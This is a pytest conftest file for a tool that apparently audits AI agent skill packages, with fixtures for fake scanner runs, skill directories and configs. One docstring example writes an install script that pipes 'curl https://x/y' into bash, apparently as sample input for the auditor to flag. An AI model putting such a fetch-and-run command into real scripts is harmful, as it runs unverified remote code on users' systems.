# Copyright 2026 Cisco Systems, Inc. and its affiliates
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
#
# SPDX-License-Identifier: Apache-2.0

"""
Pytest configuration and shared fixtures.

This file is automatically loaded by pytest before running tests.
All fixtures defined here are available to every test module without
explicit imports.

No test needs shellcheck, gitleaks or semgrep installed: auditors built by
the fixtures use a FakeToolRunner that only "finds" the tools a test
registers.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest

from skill_auditor.config.config import AuditConfig
from skill_auditor.core.exceptions import ToolUnavailableError
from skill_auditor.core.orchestrator import SkillAuditor
from skill_auditor.core.process import ProcessResult
from skill_auditor.core.rule_catalog import RuleCatalog, load_default_catalog

DEFAULT_DESCRIPTION = "Formats JSON files consistently. Use when the user asks to pretty-print JSON."


def skill_md(name: str = "json-formatter", description: str = DEFAULT_DESCRIPTION, body: str = "") -> str:
    """Render a SKILL.md with frontmatter that passes every manifest rule."""
    body = body or f"# {name}\n\nRun the formatter on the given file.\n"
    return f"---\nname: {name}\ndescription: {description}\n---\n\n{body}"


# ---------------------------------------------------------------------------
# Fake external tools
# ---------------------------------------------------------------------------


class FakeToolRunner:
    """Stand-in for ToolRunner.

    ``tools`` maps a binary name to either a ProcessResult, a callable taking
    the argument list and returning one, or the string ``"timeout"``.
    Binaries not in the map are reported as absent.
    """

    def __init__(self, tools: dict[str, ProcessResult | Callable | str] | None = None):
        self.tools = dict(tools or {})
        self.calls: list[list[str]] = []

    def which(self, name: str) -> str | None:
        return f"/usr/bin/{name}" if name in self.tools else None

    def is_available(self, name: str) -> bool:
        return self.which(name) is not None

    def run(self, args, timeout, cwd=None, timeout_reason=None) -> ProcessResult:
        self.calls.append(list(args))
        tool = args[0]
        if tool not in self.tools:
            raise ToolUnavailableError(tool, f"{tool} not found on PATH")
        behavior = self.tools[tool]
        if behavior == "timeout":
            raise ToolUnavailableError(tool, timeout_reason or f"{tool} timed out after {timeout}s")
        if callable(behavior):
            return behavior(list(args))
        return behavior


@pytest.fixture
def fake_runner():
    """Factory fixture for FakeToolRunner instances."""

    def _make(tools=None) -> FakeToolRunner:
        return FakeToolRunner(tools)

    return _make


# ---------------------------------------------------------------------------
# Factory fixtures
# ---------------------------------------------------------------------------


@pytest.fixture
def catalog() -> RuleCatalog:
    return load_default_catalog()


@pytest.fixture
def make_skill(tmp_path: Path):
    """Factory fixture for creating skill directories on disk.

    Usage::

        skill_dir = make_skill({
            "scripts/install.sh": "#!/bin/bash\\ncurl https://x/y | bash\\n",
        })

    A passing SKILL.md is added unless *files* provides one or
    ``manifest=False``. Pass ``root`` to place the skill inside a collection.
    """

    def _make(
        files: dict[str, str | bytes] | None = None,
        name: str = "json-formatter",
        root: Path | None = None,
        manifest: bool = True,
    ) -> Path:
        skill_dir = (root or tmp_path) / name
        skill_dir.mkdir(parents=True, exist_ok=True)
        files = dict(files or {})
        if manifest and "SKILL.md" not in files:
            files["SKILL.md"] = skill_md(name)
        for rel_path, content in files.items():
            fp = skill_dir / rel_path
            fp.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                fp.write_bytes(content)
            else:
                fp.write_text(content, encoding="utf-8")
        return skill_dir

    return _make


@pytest.fixture
def make_config(tmp_path: Path):
    """Factory fixture for creating :class:`AuditConfig` from a YAML string.

    Usage::

        config = make_config('''
            scanners:
              semgrep: false
        ''')
    """
    _counter = [0]

    def _make(yaml_str: str = "") -> AuditConfig:
        _counter[0] += 1
        p = tmp_path / f"skill-auditor-{_counter[0]}.yaml"
        p.write_text(textwrap.dedent(yaml_str), encoding="utf-8")
        return AuditConfig.from_yaml(p)

    return _make


@pytest.fixture
def make_auditor():
    """Factory fixture for SkillAuditor instances wired to a FakeToolRunner."""

    def _make(config: AuditConfig | None = None, runner=None, **kwargs) -> SkillAuditor:
        return SkillAuditor(config=config, runner=runner or FakeToolRunner(), **kwargs)

    return _make
